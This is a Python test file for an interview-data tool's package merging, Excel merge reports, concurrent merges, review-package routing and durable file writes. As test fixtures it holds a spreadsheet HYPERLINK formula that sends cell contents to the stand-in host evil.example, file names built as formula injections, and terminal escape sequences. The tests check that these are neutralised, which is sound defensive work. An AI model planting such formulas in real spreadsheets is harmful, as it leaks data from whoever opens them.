"""Merging in the presence of hostile text, concurrent merges and review packages sent to the wrong
laptop; writing packages and reports durably (issue 10: points 8, 9, 10, 21)."""

from __future__ import annotations

import errno
import os
import sys

import openpyxl
import pytest

from yingzao.core import durable
from yingzao.core.errors import StoreError
from yingzao.core.exchange import merge as merge_module
from yingzao.core.exchange.merge import accept_device, merge_package, merge_packages
from yingzao.core.exchange.merge_report import save_report_xlsx, summary_lines
from yingzao.core.exchange.package import pack_session
from yingzao.core.exchange.review_package import pack_review
from yingzao.core.review import decisions as review
from yingzao.core.store.database import Store

from tests.laptops import Laptop, canonical_dump, join, laptop_template, make_project  # noqa: F401  (fixture)

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
FILE_NAME = "=SUM(1,2)&A1"  # what a file name can hold on every system


@pytest.fixture
def english(monkeypatch):
    monkeypatch.setattr("yingzao.core.errors.base._language", "en")


# -- 8: the merge report ---------------------------------------------------------------------


def test_the_report_writes_hostile_text_as_text_and_always_opens(make_laptop, master, tmp_path):
    evil = make_laptop("evil", user=HOSTILE + "\x07\x1b[31m\ufffe")
    evil.interview()
    merged = evil.pack(tmp_path / f"{FILE_NAME}.yzpack")
    junk = tmp_path / "=1+1.yzpack"
    junk.write_text("not a package")
    report = merge_packages(master, [merged, junk])
    assert [p.status for p in report.packages] == ["merged", "refused"]
    book = openpyxl.load_workbook(save_report_xlsx(report, tmp_path / "report.xlsx"))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    packages = list(book["packages"].iter_rows(values_only=True))
    assert packages[1][0] == "'" + FILE_NAME + ".yzpack" and packages[2][0] == "'=1+1.yzpack"
    assert packages[1][9] == "'" + HOSTILE + "\ufffd\ufffd[31m\ufffd"  # fieldworker: controls replaced
    assert not list(tmp_path.glob("*.partial"))
    lines = summary_lines(report)
    assert "\x1b" not in "".join(lines) and "\x07" not in "".join(lines)


def test_a_report_that_cannot_be_written_leaves_nothing_behind_and_prints_nothing(
    make_laptop, master, tmp_path, monkeypatch
):
    wang = make_laptop("wang")
    wang.interview()
    report = merge_packages(master, [wang.pack(tmp_path / "s.yzpack")])
    unraisable = []
    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)

    def full_disk(handle):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(durable.os, "fsync", full_disk)
    with pytest.raises(OSError):
        save_report_xlsx(report, tmp_path / "report.xlsx")
    import gc

    gc.collect()
    assert unraisable == []
    assert sorted(p.name for p in tmp_path.iterdir() if "report" in p.name) == []


# -- 9: two processes merging one package ----------------------------------------------------


def test_a_second_connection_merging_the_same_package_meanwhile_gets_already_merged(make_laptop, tmp_path, monkeypatch):
    wang = make_laptop("wang")
    wang.interview()
    package = wang.pack(tmp_path / "s.yzpack")
    first, second = Store(tmp_path / "master.db", user="甲"), Store(tmp_path / "master.db", user="乙")
    real_read = merge_module.read_package

    interleaved = []

    def read_while_the_other_merges(path, content=None):
        if not interleaved:  # the second has checked that the package is new; now the first merges it whole
            interleaved.append("first")
            interleaved.append(merge_package(first, path).status)
        return real_read(path, content)

    monkeypatch.setattr(merge_module, "read_package", read_while_the_other_merges)
    line = merge_package(second, package)
    assert interleaved == ["first", "merged"]
    assert line.status == "already_merged" and line.merged_at, line.reason
    assert "UNIQUE" not in line.reason
    assert second.count_interviews() == 1
    first.close()
    second.close()


# -- 10: review packages go back to the laptop that took the interviews ------------------------


def test_a_review_package_is_refused_on_a_laptop_that_did_not_take_its_interviews(
    make_laptop, master, tmp_path, english
):
    wang, li = make_laptop("wang", "王芳"), make_laptop("li", "李强")
    project_file = make_project(master)
    join(wang.store, project_file)
    join(li.store, project_file)
    interview_id = wang.interview()
    wang.store.finalize(interview_id)
    li.interview()
    merge_packages(master, [wang.pack(tmp_path / "wang.yzpack"), li.pack(tmp_path / "li.yzpack")])
    accept_device(master, wang.store.device_id)
    accept_device(master, li.store.device_id)
    review.send_back(master, interview_id, "请补充")
    pack_review(master, tmp_path / "back.yzpack")
    before = canonical_dump(li.store)  # another fieldworker's laptop cannot even open it
    line = merge_packages(li.store, [tmp_path / "back.yzpack"]).packages[0]
    assert line.status == "refused" and "does not open with this project's key" in line.reason
    assert canonical_dump(li.store) == before
    before = canonical_dump(master)  # the supervisor's own master opens it, and refuses it
    line = merge_packages(master, [tmp_path / "back.yzpack"]).packages[0]
    assert line.status == "refused" and f"interview {interview_id} was not taken on this database" in line.reason
    assert canonical_dump(master) == before
    assert merge_packages(wang.store, [tmp_path / "back.yzpack"]).packages[0].status == "merged"
    assert wang.store.interview(interview_id).status == "rejected"


# -- 21: package files are on disk before the export is recorded ------------------------------


def test_a_package_is_flushed_before_it_is_renamed_and_recorded(make_laptop, tmp_path, monkeypatch):
    wang = make_laptop("wang")
    wang.interview()
    events = []
    real_fsync, real_replace = os.fsync, os.replace
    monkeypatch.setattr(durable.os, "fsync", lambda fd: (events.append("fsync"), real_fsync(fd))[1])
    monkeypatch.setattr(durable.os, "replace", lambda a, b: (events.append("rename"), real_replace(a, b))[1])
    assert pack_session(wang.store, tmp_path / "s.yzpack") is not None
    assert events[:2] == ["fsync", "rename"]
    if os.name != "nt":
        assert events[2:] == ["fsync"]  # the folder's entry too


def test_a_package_that_cannot_be_flushed_is_not_recorded_as_exported(make_laptop, tmp_path, monkeypatch):
    wang = make_laptop("wang")
    wang.interview()

    def failing(fd):
        raise OSError(errno.EIO, "Input/output error")

    monkeypatch.setattr(durable.os, "fsync", failing)
    with pytest.raises(StoreError):
        pack_session(wang.store, tmp_path / "s.yzpack")
    assert list(tmp_path.glob("s.yzpack*")) == []
    assert wang.store.conn.execute("SELECT count(*) FROM exports").fetchone()[0] == 0
    monkeypatch.undo()
    assert pack_session(wang.store, tmp_path / "s.yzpack").interviews == 1  # still "changed since the last export"


def test_a_file_name_that_is_not_utf8_on_the_disk_still_merges_and_reports(make_laptop, master, tmp_path):
    wang = make_laptop("wang")
    wang.interview()
    package = wang.pack(tmp_path / "s.yzpack")
    odd = tmp_path / os.fsdecode(b"caf\xe9.yzpack")  # Latin-1 bytes in a name, as old USB sticks hold them
    try:
        package.rename(odd)
    except (OSError, UnicodeEncodeError):
        pytest.skip("this file system accepts only valid Unicode names")
    report = merge_packages(master, [odd])
    assert report.packages[0].status == "merged" and report.packages[0].file_name == "caf?.yzpack"
    assert master.conn.execute("SELECT file_name FROM packages").fetchone()[0] == "caf?.yzpack"
    assert summary_lines(report)[0].startswith("caf?.yzpack：已合并")
    book = openpyxl.load_workbook(save_report_xlsx(report, tmp_path / "report.xlsx"))
    assert book["packages"]["A2"].value == "caf?.yzpack"
